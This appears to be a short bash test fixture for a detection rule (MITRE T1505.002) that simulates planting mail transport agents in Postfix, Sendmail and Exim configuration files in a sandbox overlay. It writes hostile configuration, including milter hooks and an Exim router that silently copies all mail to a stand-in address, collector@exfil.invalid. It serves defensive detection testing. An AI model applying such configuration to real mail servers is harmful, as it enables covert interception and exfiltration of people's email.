#!/bin/bash
# Add transport agents to a Postfix, Sendmail and Exim configuration (made in the overlay:
# no MTA is installed): postconf -e sets smtpd_milters and a content_filter (postconf is a
# stand-in, a copy of /bin/true under its name: the signature keys on its name and
# arguments), sed appends a milter to main.cf, the shell appends a filter service to
# master.cf, and an INPUT_MAIL_FILTER line goes into sendmail.mc and an Exim router file.
# technique: T1505.002
# expect: mail-transport-agent-added
set -eu
mkdir -p /etc/postfix /etc/mail /etc/exim4/conf.d/router
cp /bin/true /usr/local/bin/postconf
postconf -e 'smtpd_milters = inet:127.0.0.1:8891' 'non_smtpd_milters = $smtpd_milters'
postconf -e 'content_filter = scan:[127.0.0.1]:10025'
printf 'myhostname = mail.example.invalid\n' > /etc/postfix/main.cf
sed -i '$a smtpd_milters = inet:127.0.0.1:8891' /etc/postfix/main.cf
printf 'scan unix - - n - 10 smtp\n' >> /etc/postfix/master.cf
printf "INPUT_MAIL_FILTER(\`relay', \`S=inet:8891@127.0.0.1')dnl\n" >> /etc/mail/sendmail.mc
printf 'copy_out:\n  driver = redirect\n  data = collector@exfil.invalid\n  unseen\n' \
    > /etc/exim4/conf.d/router/150_copy_out
